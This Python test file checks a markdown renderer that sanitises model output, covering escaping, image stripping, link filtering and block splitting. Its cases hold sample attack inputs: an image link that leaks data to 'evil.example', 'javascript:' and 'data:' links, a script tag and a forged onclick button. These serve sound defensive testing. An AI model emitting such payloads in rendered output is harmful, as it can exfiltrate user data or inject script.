"""What a model writes is shown and never run; a growing text changes only at its end."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typing_extensions import override

from server.web.markdown import TAGS, blocks, render

ALLOWED = {"href", "rel", "start", "class"}


class Inventory(HTMLParser):
    """Every tag and attribute in a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, str | None] = {}
        self.feed(html)
        self.close()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        pytest.param("**52.3 V**", "<p><strong>52.3 V</strong></p>\n", id="emphasis"),
        pytest.param("<script>x</script>", "<p>&lt;script&gt;x&lt;/script&gt;</p>\n", id="script"),
        pytest.param(
            "![leak](https://evil.example/?d=1)",
            "<p>[image removed: leak]</p>\n",
            id="an image is a leak",
        ),
        pytest.param(
            "[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>\n", id="script link"
        ),
        pytest.param("[x](data:text/html,1)", "<p>[x](data:text/html,1)</p>\n", id="data link"),
        pytest.param(
            "[x](https://example.com)",
            '<p><a href="https://example.com" rel="noopener noreferrer nofollow">x</a></p>\n',
            id="a link goes nowhere by itself",
        ),
        pytest.param(
            '<button onclick="approve()">Approve</button>',
            '<p>&lt;button onclick="approve()"&gt;Approve&lt;/button&gt;</p>\n',
            id="a forged button",
        ),
        pytest.param(
            "| a | b |\n|---|--:|\n| 1 | 2 |",
            '<table>\n<thead>\n<tr>\n<th>a</th>\n<th class="right">b</th>\n</tr>\n</thead>\n'
            '<tbody>\n<tr>\n<td>1</td>\n<td class="right">2</td>\n</tr>\n</tbody>\n</table>\n',
            id="a table keeps its alignment",
        ),
    ],
)
def test_rendering(text: str, html: str) -> None:
    assert render(text) == html


@given(
    st.text(
        alphabet=st.sampled_from("<>\"'=/ab[]()!#`*-|:\n javscriptonerrorimgstyle&;"), max_size=200
    )
)
def test_nothing_but_the_allowed_comes_out(text: str) -> None:
    found = Inventory(render(text))
    assert found.tags <= TAGS
    assert set(found.attributes) <= ALLOWED
    href = found.attributes.get("href")
    assert href is None or re.match(r"(?!https?:)[a-z]+:", href) is None


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        pytest.param("", [], id="nothing"),
        pytest.param("\n \n", [], id="blank"),
        pytest.param("one\ntwo", ["one\ntwo"], id="a paragraph"),
        pytest.param("one\n\ntwo", ["one\n\n", "two"], id="two paragraphs"),
        pytest.param("```\na\n\nb\n```\nend", ["```\na\n\nb\n```\n", "end"], id="a fence is whole"),
        pytest.param("- a\n\n- b\n\nend", ["- a\n\n- b\n\n", "end"], id="a loose list is whole"),
        pytest.param("# T\n---\nx", ["# T\n", "---\n", "x"], id="heading and rule"),
        pytest.param("|a|\n|-|\n|1|\n\nx", ["|a|\n|-|\n|1|\n\n", "x"], id="a table is whole"),
        pytest.param("\n\nlate", ["\n\nlate"], id="blank lines before"),
    ],
)
def test_blocks(text: str, parts: list[str]) -> None:
    assert blocks(text) == parts


@given(st.text(alphabet=st.sampled_from("ab`#-*|>1. \n"), max_size=120))
def test_blocks_are_the_text(text: str) -> None:
    assert "".join(blocks(text)).strip() == text.strip() or not text.strip()
